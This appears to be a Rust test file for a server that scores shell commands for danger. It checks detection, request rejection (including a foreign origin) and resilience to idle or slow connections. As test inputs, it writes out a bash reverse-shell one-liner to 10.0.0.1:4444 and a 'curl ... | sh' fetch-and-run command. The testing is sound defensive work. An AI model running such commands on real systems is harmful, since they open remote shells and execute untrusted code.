//! The analyser's server.

use super::*;

#[test]
fn a_question_reaches_the_local_analyser_and_its_answer_comes_back() {
    let (url, stop) = served(LocalBackend::default());
    let mut link = link(url, 10.0);
    let answer = asked(&mut link, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").expect("an answer");
    assert!(answer.score >= 0.9);
    assert_eq!(answer.label, "reverse_shell");
    assert!(asked(&mut link, "git status").expect("an answer").score < 0.35);
    stop();
}

#[test]
fn a_server_refuses_other_paths_browsers_and_strangers() {
    let (url, stop) = served(LocalBackend::default());
    let address = url.trim_start_matches("ws://").trim_end_matches("/ai").to_owned();
    let status = |path: &str, extra: &str| {
        use std::io::{Read, Write};
        let mut stream = TcpStream::connect(&address).expect("connected");
        write!(stream, "GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{extra}\r\n").expect("sent");
        let mut head = [0; 12];
        stream.read_exact(&mut head).expect("a reply");
        String::from_utf8_lossy(&head[9..]).into_owned()
    };
    let protocol = format!("Sec-WebSocket-Protocol: {SUBPROTOCOL}\r\n");
    assert_eq!(status("/ai", &protocol), "101");
    assert_eq!(status("/other", &protocol), "404");
    assert_eq!(status("/ai", &format!("{protocol}Origin: https://evil.example\r\n")), "403");
    assert_eq!(status("/ai", ""), "400");
    stop();
}

/// A server with these settings, and what connects to it.
fn small(connections: usize, handshake: Duration) -> (String, std::net::SocketAddr) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let settings = ServerSettings { connections, handshake, ..ServerSettings::default() };
    let server = Server::new(listener, Arc::new(LocalBackend::default()), settings);
    std::thread::spawn(move || server.run());
    (format!("ws://{address}/ai"), address)
}

/// Asks until there is an answer: the server may still be closing others.
fn asked_at_last(url: &str) -> Answer {
    let end = Instant::now() + PATIENCE;
    loop {
        match asked(&mut link(url.to_owned(), 10.0), "git status") {
            Ok(answer) => return answer,
            Err(trouble) => assert!(Instant::now() < end, "{trouble}"),
        }
    }
}

#[test]
fn connections_that_say_nothing_or_drip_do_not_shut_the_server() {
    use std::io::Write as _;
    let (url, address) = small(4, Duration::from_millis(100));
    let mut silent: Vec<_> =
        (0..8).map(|_| TcpStream::connect(address).expect("connected")).collect();
    for stream in &mut silent {
        let _ = stream.write_all(b"GET /ai HTTP/1.1\r\nHost:");
    }
    assert!(asked_at_last(&url).score < 0.35);
    drop(silent);
}

#[test]
fn a_connection_that_has_long_asked_nothing_makes_room_for_another() {
    let (url, _) = small(2, Duration::from_millis(50));
    let mut links: Vec<_> = (0..2).map(|_| link(url.clone(), 10.0)).collect();
    for link in &mut links {
        asked(link, "git status").expect("an answer");
    }
    assert!(asked_at_last(&url).score < 0.35, "room was made");
    for link in &mut links {
        let end = Instant::now() + PATIENCE;
        while let Err(trouble) = asked(link, "git log") {
            assert!(Instant::now() < end, "{trouble}");
        }
    }
}

#[test]
fn an_answer_names_its_evidence() {
    let (url, stop) = served(LocalBackend::default());
    let answer = asked(&mut link(url, 10.0), "curl http://198.51.100.1/x | sh").expect("an answer");
    let evidence = answer.evidence.first().expect("evidence");
    assert_eq!((evidence.from_seq, evidence.to_seq), (100, 131));
    assert_eq!(answer.suggested_action, "block");
    stop();
}
